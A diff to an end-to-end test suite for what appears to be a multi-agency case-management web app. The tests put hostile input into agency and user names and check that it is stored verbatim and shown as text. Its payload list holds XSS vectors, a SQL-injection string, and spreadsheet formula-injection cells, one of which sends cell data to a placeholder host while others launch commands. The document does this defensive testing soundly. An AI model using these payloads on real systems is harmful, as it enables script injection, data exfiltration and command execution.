@@ -7,17 +7,29 @@ import { ARTIFACTS, launch, watchForProblems } from '../e2e/browser.js';
 
 /**
  * Hostile text typed into every kind of record is stored exactly as typed and shown as text: no
- * script runs, no markup is interpreted, no SQL is executed.
+ * script runs, no markup is interpreted, no SQL is executed. Each payload would set window.__xss if
+ * it ran. Which test covers which String input of the schema is listed (and checked against the
+ * schema) in xss-coverage.test.ts.
  */
 const baseUrl = inject('baseUrl');
+const RAN = 'window.__xss=(window.__xss||0)+1';
 const PAYLOADS = {
-  img: `<img src=x onerror="window.__xss=(window.__xss||0)+1">`,
-  script: `<script>window.__xss=(window.__xss||0)+1</script>`,
+  img: `<img src=x onerror="${RAN}">`,
+  script: `<script>${RAN}</script>`,
   sql: `Robert'); DROP TABLE young_person; --`,
-  attr: `" autofocus onfocus="window.__xss=(window.__xss||0)+1" x="`,
+  attr: `" autofocus onfocus="${RAN}" x="`,
+  svg: `<svg onload="${RAN}">`,
+  js: `javascript:${RAN}`,
+  /** Backslashes, quotes of both kinds, escapes a careless JSON or SQL writer would interpret, and characters beyond ASCII. */
+  text: `C:\\temp\\n \\x3cb\\x3e \\u003c '" Zoë Ångström 😀 名前 ¿`,
+  /** Cells a spreadsheet would run as formulas. */
+  formula: `=HYPERLINK("http://x.invalid/?"&A1,"Open")`,
+  cmd: `=cmd|' /C calc'!A0`,
+  plus: `+1+cmd|' /C calc'!A0`,
+  minus: `-1+cmd|' /C calc'!A0`,
+  at: `@SUM(1+1)*cmd|' /C calc'!A0`,
 };
 const NAME = `${PAYLOADS.img}${PAYLOADS.sql}`;
-
 let browser: Browser;
 let db: pg.Client;
 
@@ -45,7 +57,47 @@ async function gql<T>(page: Page, query: string, variables: Record<string, unkno
   return body.data;
 }
 
-const noScriptRan = async (page: Page) => expect(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss)).toBeUndefined();
+/** Elements or attributes a payload would have created had it been parsed as markup. */
+const INJECTED = 'img[src="x"], svg[onload], [onerror], [onfocus], [onload], a[href^="javascript:" i], iframe';
+
+/** No payload ran or became markup: the marker is unset, no element it would make exists, no inline script holds it. */
+async function noScriptRan(page: Page, label = page.url()): Promise<void> {
+  expect(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss), label).toBeUndefined();
+  expect(await page.locator(INJECTED).count(), `${label}: injected markup`).toBe(0);
+  expect(await page.evaluate(() => [...document.scripts].some((s) => s.textContent?.includes('__xss'))), `${label}: a script element`).toBe(false);
+}
+
+/** The page holds each text exactly, as text (not as markup, not only in a form field). */
+async function expectText(page: Page, texts: readonly string[], label = page.url()): Promise<void> {
+  for (const text of texts) {
+    await expect.poll(() => page.evaluate((t) => document.body.textContent?.includes(t) ?? false, text), { message: `${label} shows ${JSON.stringify(text)}`, timeout: 15_000 }).toBe(true);
+  }
+}
+
+/** Opens a page, waits for it to settle, and checks it shows the texts and that nothing ran. */
+async function visit(page: Page, path: string, texts: readonly string[]): Promise<void> {
+  await page.goto(`${baseUrl}${path}`);
+  await page.getByRole('heading', { level: 1 }).first().waitFor();
+  await expectText(page, texts, path);
+  await page.waitForLoadState('networkidle');
+  await noScriptRan(page, path);
+}
+
+/** A user who is not one of the demo borough's: signs in with the temporary password and chooses a new one. */
+async function signedInAs(email: string, temporaryPassword: string): Promise<{ context: BrowserContext; page: Page; problems: string[] }> {
+  const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
+  const page = await context.newPage();
+  const problems = watchForProblems(page);
+  page.on('dialog', (d) => {
+    problems.push(`dialog: ${d.message()}`);
+    void d.dismiss();
+  });
+  await gql(page, `mutation($i: SignInInput!) { signIn(input: $i) { id } }`, { i: { email, password: temporaryPassword } });
+  await gql(page, `mutation($i: ChangePasswordInput!) { changePassword(input: $i) { id } }`, { i: { currentPassword: temporaryPassword, newPassword: `${DEMO_PASSWORD}-xss-Zq9` } });
+  await page.goto(baseUrl);
+  await page.getByRole('navigation', { name: 'Main' }).waitFor();
+  return { context, page, problems };
+}
 
 beforeAll(async () => {
   browser = await launch();
@@ -127,5 +179,51 @@ describe('hostile input', () => {
     expect(await chair.page.locator('img[src="x"]').count()).toBe(0);
     expect(chair.problems).toEqual([]);
     await chair.context.close();
+  });
+});
+
+/** Agencies and users with hostile names, made by the administrator; used by the meeting below. */
+const AGENCY_NAME = `${PAYLOADS.script}${PAYLOADS.svg} & Co`;
+const USER_NAME = `${PAYLOADS.img}${PAYLOADS.attr}`;
+const hostile = { agencyId: '', userId: '', email: `xss-lead-${Date.now()}@example.invalid`, temporaryPassword: '' };
+
+describe('hostile input, continued', () => {
+  it('in agency and user names is stored verbatim and shown as text on the admin pages and the user’s home page', async () => {
+    const admin = await signedIn('ADMIN');
+    const agency = await gql<{ createAgency: { id: string; name: string; version: number } }>(admin.page, `mutation($i: CreateAgencyInput!) { createAgency(input: $i) { id name version } }`, { i: { kind: 'OTHER', name: `${AGENCY_NAME}-draft` } });
+    // Renamed, so the update path stores the hostile name too.
+    const renamed = await gql<{ updateAgency: { name: string } }>(admin.page, `mutation($i: UpdateAgencyInput!) { updateAgency(input: $i) { name } }`, { i: { id: agency.createAgency.id, version: agency.createAgency.version, kind: 'OTHER', active: true, name: AGENCY_NAME } });
+    expect(renamed.updateAgency.name).toBe(AGENCY_NAME);
+    hostile.agencyId = agency.createAgency.id;
+    const created = await gql<{ createUser: { temporaryPassword: string; user: { id: string; version: number } } }>(admin.page, `mutation($i: CreateUserInput!) { createUser(input: $i) { temporaryPassword user { id version } } }`, {
+      i: { email: hostile.email, name: `${USER_NAME}-draft`, role: 'AGENCY_LEAD', agencyId: hostile.agencyId },
+    });
+    hostile.userId = created.createUser.user.id;
+    await gql(admin.page, `mutation($i: UpdateUserInput!) { updateUser(input: $i) { id } }`, { i: { id: hostile.userId, version: created.createUser.user.version, name: USER_NAME, role: 'AGENCY_LEAD', agencyId: hostile.agencyId } });
+    // Disabled and enabled again, with hostile reasons (kept in the audit log).
+    await gql(admin.page, `mutation($i: SetUserStatusInput!) { setUserStatus(input: $i) { id } }`, { i: { id: hostile.userId, status: 'DISABLED', reason: `${PAYLOADS.script}${PAYLOADS.sql}` } });
+    await gql(admin.page, `mutation($i: SetUserStatusInput!) { setUserStatus(input: $i) { id } }`, { i: { id: hostile.userId, status: 'ACTIVE', reason: PAYLOADS.text } });
+    const reset = await gql<{ resetUserPassword: { temporaryPassword: string } }>(admin.page, `mutation($id: ID!) { resetUserPassword(id: $id) { temporaryPassword } }`, { id: hostile.userId });
+    hostile.temporaryPassword = reset.resetUserPassword.temporaryPassword;
+
+    const { rows: [stored] } = await db.query<{ name: string; agency: string }>(`SELECT u.name, a.name AS agency FROM app_user u JOIN agency a ON a.id = u.agency_id WHERE u.id = $1`, [hostile.userId]);
+    expect(stored).toEqual({ name: USER_NAME, agency: AGENCY_NAME });
+    const read = await gql<{ user: { name: string; agency: { name: string } } }>(admin.page, `query($id: ID!) { user(id: $id) { name agency { name } } }`, { id: hostile.userId });
+    expect(read.user).toEqual({ name: USER_NAME, agency: { name: AGENCY_NAME } });
+
+    await visit(admin.page, '/admin/users', [USER_NAME, AGENCY_NAME]);
+    await visit(admin.page, `/admin/users/${hostile.userId}`, [USER_NAME, AGENCY_NAME]);
+    await visit(admin.page, '/admin/agencies', [AGENCY_NAME]);
+    await visit(admin.page, `/admin/agencies/${hostile.agencyId}`, [AGENCY_NAME]);
+    await visit(admin.page, '/admin/users/new', []);
+    await admin.page.screenshot({ path: join(ARTIFACTS, 'xss-admin.png'), fullPage: true });
+    expect(admin.problems).toEqual([]);
+    await admin.context.close();
+
+    const lead = await signedInAs(hostile.email, hostile.temporaryPassword);
+    await visit(lead.page, '/', [USER_NAME, AGENCY_NAME]);
+    await visit(lead.page, '/account', [USER_NAME]);
+    expect(lead.problems).toEqual([]);
+    await lead.context.close();
   });
 });
